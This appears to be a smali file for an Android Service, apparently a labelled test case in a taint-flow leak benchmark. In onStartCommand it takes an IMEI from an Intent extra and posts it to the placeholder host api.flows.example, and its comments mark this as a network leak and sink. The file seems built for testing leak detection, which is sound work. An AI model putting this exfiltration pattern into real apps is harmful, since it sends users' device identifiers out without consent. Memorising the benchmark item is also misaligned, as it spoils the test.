.class public Lorg/apkaudit/flows/icc_patterns/UploadService;
.super Landroid/app/Service;
.source "UploadService.java"

#   public int onStartCommand(Intent intent, int flags, int id) {
#       String imei = intent.getStringExtra("imei");
#       HttpURLConnection c = (HttpURLConnection) new URL("https://api.flows.example/v1/icc_patterns").openConnection();
#       c.setDoOutput(true); OutputStream out = c.getOutputStream();
#       out.write(imei.getBytes());                      // <- leak 3, network
#       out.close(); return START_NOT_STICKY; }


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Service;-><init>()V

    return-void
.end method


.method public static newIntent(Landroid/content/Context;)Landroid/content/Intent;
    .registers 3

    # a factory method: new Intent(context, UploadService.class)
    new-instance v0, Landroid/content/Intent;

    const-class v1, Lorg/apkaudit/flows/icc_patterns/UploadService;

    invoke-direct {v0, p0, v1}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V

    return-object v0
.end method


# virtual methods
.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .registers 3

    const/4 v0, 0x0

    return-object v0
.end method

.method public onStartCommand(Landroid/content/Intent;II)I
    .registers 8

    :try_start_0
    const-string v0, "imei"

    invoke-virtual {p1, v0}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;

    move-result-object v0

    new-instance v1, Ljava/net/URL;

    const-string v2, "https://api.flows.example/v1/icc_patterns"

    invoke-direct {v1, v2}, Ljava/net/URL;-><init>(Ljava/lang/String;)V

    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;

    move-result-object v1

    check-cast v1, Ljava/net/HttpURLConnection;

    const/4 v2, 0x1

    invoke-virtual {v1, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V

    invoke-virtual {v1}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v2

    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B

    move-result-object v3

    # sink: the IMEI is written to the connection's output stream
    invoke-virtual {v2, v3}, Ljava/io/OutputStream;->write([B)V

    invoke-virtual {v2}, Ljava/io/OutputStream;->close()V
    :try_end_0
    .catch Ljava/lang/Exception; {:try_start_0 .. :try_end_0} :catch_0

    :goto_0
    const/4 v0, 0x2

    return v0

    :catch_0
    move-exception v0

    goto :goto_0
.end method
